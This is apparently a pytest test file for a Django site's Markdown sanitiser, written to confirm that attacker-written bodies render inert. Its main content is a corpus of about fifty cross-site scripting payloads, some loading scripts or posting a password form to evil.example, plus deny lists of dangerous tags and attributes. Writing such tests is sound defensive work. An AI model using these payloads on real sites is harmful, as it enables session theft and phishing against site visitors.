"""Markdown bodies: what staff write renders, what an attacker writes never runs."""

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.core.cache import cache
from django.template import Context, Template
from django.test import override_settings

from center.lib.text import ALLOWED_TAGS, markdown_preview, plain_text, render_markdown

# Each payload arrives as a Markdown body, the way an admin form would save it.
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src="x" onerror="alert(1)">',
    "<img src=/media/a.png onerror=alert(1)>",
    '![pic](/media/a.png" onerror="alert(1))',
    '![pic](x" onerror="alert(1))',
    "![pic](javascript:alert(1))",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href=" javascript:alert(1)">leading space</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](  javascript:alert(1)  )",
    "[x]: javascript:alert(1)\n\n[link][x]",
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    "[d](data:text/html,<script>alert(1)</script>)",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="width: expression(alert(1))">ie</p>',
    '<div style="background-image: url(javascript:alert(1))">bg</div>',
    '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<body onload="alert(1)">',
    '<details open ontoggle="alert(1)">',
    '<a href="https://example.jp" onclick="alert(1)" onmouseover="alert(1)">hover</a>',
    '<a href="https://example.jp" target="_blank">new tab</a>',
    "<p>unterminated <b>bold <i>italic <script>alert(1)",
    "<<script>script>alert(1)<</script>/script>",
    "<img\nsrc=x\nonerror=alert(1)\n>",
    "<scri\x00pt>alert(1)</scri\x00pt>",
    "java\x00script:alert(1)",
    "[x](java\x00script:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    "```\n<script>alert(1)</script>\n```",
    '<p class="x" id="y" data-foo="bar">classes</p>',
]

# Elements that must never appear, anywhere in the output.
FORBIDDEN_ELEMENTS = ("<script", "<iframe", "<style", "<svg", "<math", "<object",
                      "<embed", "<form", "<input", "<base", "<meta", "<link", "<body",
                      "<details")  # fmt: skip
# Words that must never appear inside a tag. In the text they may: a news item can say
# "never click javascript: links", and there it is escaped text the browser shows, not runs.
FORBIDDEN_IN_MARKUP = ("javascript:", "vbscript:", "data:", "onerror", "onload", "onclick",
                       "onmouseover", "ontoggle", "style=", "class=", "id=", "target=")  # fmt: skip
ALLOWED_ATTRIBUTES = {"href", "src", "alt", "rel"}
_TAG = re.compile(r"<[^>]*>")


class _Markup(HTMLParser):
    """Every start tag with its attributes, as a browser's tokenizer would see them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def assert_inert(html: str) -> None:
    lowered = html.lower()
    for element in FORBIDDEN_ELEMENTS:
        assert element not in lowered, f"{element!r} survived in {html!r}"
    markup = " ".join(_TAG.findall(lowered))
    for vector in FORBIDDEN_IN_MARKUP:
        assert vector not in markup, f"{vector!r} survived in the tags of {html!r}"
    parser = _Markup()
    parser.feed(html)
    for tag, attributes in parser.tags:
        assert tag in ALLOWED_TAGS, tag
        for name, value in attributes:
            assert name in ALLOWED_ATTRIBUTES, (tag, name)
            if name == "href":
                assert urlsplit(value.strip()).scheme in {"", "http", "https", "mailto"}
            if name == "src":
                assert value.startswith("/media/") and "//" not in value


@pytest.fixture(autouse=True)
def _fresh_render_memo():
    # render_markdown remembers texts in the cache: each test starts with none remembered.
    cache.clear()
    yield
    cache.clear()


def test_the_corpus_is_large_enough():
    assert len(XSS_PAYLOADS) >= 25


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_payload_leaves_an_executable_vector(payload):
    assert_inert(str(render_markdown(payload)))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payloads_wrapped_in_markdown_are_cleaned_too(payload):
    text = f"## Title\n\n- item with {payload}\n\n> quoted {payload}\n\n| a |\n|---|\n| {payload} |"
    assert_inert(str(render_markdown(text)))


def test_normal_markdown_renders():
    html = str(
        render_markdown(
            "## Programme\n\nSome **bold** and *emphasis*.\n\n- one\n- two\n\n1. first\n2. second"
            "\n\n> a quote\n\n`code`\n\n| day | place |\n|---|---|\n| 月 | 中区 |"
        )
    )
    for fragment in (
        "<h2>Programme</h2>",
        "<strong>bold</strong>",
        "<em>emphasis</em>",
        "<ul>",
        "<li>one</li>",
        "<ol>",
        "<blockquote>",
        "<code>code</code>",
        "<table>",
        "<th>day</th>",
        "<td>中区</td>",
    ):
        assert fragment in html


def test_links_keep_safe_schemes_and_get_rel_but_no_target():
    html = str(
        render_markdown(
            "[site](https://example.jp/a?b=1) [plain](http://example.jp) "
            "[mail](mailto:info@example.jp) [page](/consultation/)"
        )
    )
    assert '<a href="https://example.jp/a?b=1" rel="noopener noreferrer">site</a>' in html
    assert 'href="http://example.jp"' in html
    assert 'href="mailto:info@example.jp"' in html
    assert 'href="/consultation/"' in html
    assert "target" not in html


def test_ftp_and_other_schemes_lose_their_link_but_keep_their_text():
    html = str(render_markdown("[old](ftp://example.jp/file) [tel](tel:0451234567)"))
    assert "ftp:" not in html and "tel:" not in html
    assert "old" in html and "tel" in html


def test_a_page_has_one_h1_so_body_headings_start_at_h2_and_stop_at_h4():
    html = str(render_markdown("# Big\n\n<h1>raw</h1>\n\n##### five\n\n###### six"))
    assert "<h1" not in html
    assert "<h2>Big</h2>" in html and "<h2>raw</h2>" in html
    assert "<h4>five</h4>" in html and "<h4>six</h4>" in html
    assert "<h5" not in html and "<h6" not in html


def test_images_only_from_our_own_media_with_their_alt_text():
    html = str(
        render_markdown(
            "![Our hall](/media/news/hall.jpg) ![Tracker](https://evil.example/pixel.gif) "
            "![Sneaky](//evil.example/x.png) ![Up](/media/../admin/) ![Rel](x.png)"
        )
    )
    assert '<img alt="Our hall" src="/media/news/hall.jpg">' in html
    assert "evil.example" not in html
    assert "/admin/" not in html
    assert html.count("<img") == 1


@override_settings(MEDIA_URL="/uploads/")
def test_the_media_prefix_comes_from_the_settings():
    assert "<img" in str(render_markdown("![a](/uploads/a.png)"))
    assert "<img" not in str(render_markdown("![a](/media/a.png)"))


def test_comments_are_stripped():
    assert "<!--" not in str(render_markdown("before <!-- secret note --> after"))


def test_line_breaks_written_by_japanese_authors_are_kept():
    assert "一行目<br>" in str(render_markdown("一行目\n二行目"))


@pytest.mark.parametrize(
    "broken",
    [
        "",
        "[unclosed link(",
        "**unclosed bold",
        "| a | b\n|---\n| 1 |",
        "```\nnever closed",
        "<div><p><table><tr><td>",
        "</p></div></table>",
        "\x00\x01\x02\x03\x1b\x7f",
        "\x02wzxhzdk:0\x03",  # Python-Markdown's own placeholder for raw HTML
        ">" * 3000 + " deep quote",
        "".join("    " * level + "- item\n" for level in range(300)),
        "[" * 500,
        "😀🎉" * 200,
        "\ud800 lone surrogate",
        "&#0; &#xD800; &#x110000; &bogus;",
    ],
)
def test_broken_markdown_never_raises(broken):
    assert_inert(str(render_markdown(broken)))
    plain_text(broken, 100)


def test_none_and_empty_give_empty_output():
    assert render_markdown("") == ""
    assert render_markdown(None) == ""
    assert plain_text(None) == ""


def test_plain_text_drops_markup_and_keeps_words_apart():
    text = (
        "# 見出し\n\n**太字**です。\n\n- 項目1\n- 項目2\n\n<script>alert(1)</script>\n\nA &amp; B"
    )
    assert plain_text(text, 200) == "見出し 太字です。 項目1 項目2 A & B"


def test_plain_text_is_cut_with_an_ellipsis():
    assert plain_text("あ" * 50, 10) == "あ" * 9 + "…"
    assert plain_text("short", 10) == "short"


def test_the_template_filters():
    rendered = Template(
        "{% load publications %}{{ body|markdown }}|{{ body|plain_text:5 }}"
    ).render(Context({"body": "**hello** <script>x</script> world"}))
    assert "<strong>hello</strong>" in rendered
    assert "<script" not in rendered
    assert rendered.endswith("|hell…")


def test_the_admin_preview_shows_the_sanitised_html():
    preview = str(markdown_preview("**ok** <img src=x onerror=alert(1)>"))
    assert "<strong>ok</strong>" in preview
    assert "onerror" not in preview


def test_every_app_can_render_markdown_through_the_center_template_library():
    from django.template import Context, Template

    html = Template("{% load center %}{{ body|markdown }}").render(
        Context({"body": "## 見出し\n\n<script>alert(1)</script>**太字**"})
    )
    assert "<h2>見出し</h2>" in html and "<strong>太字</strong>" in html
    assert "<script" not in html and "alert(1)" not in html
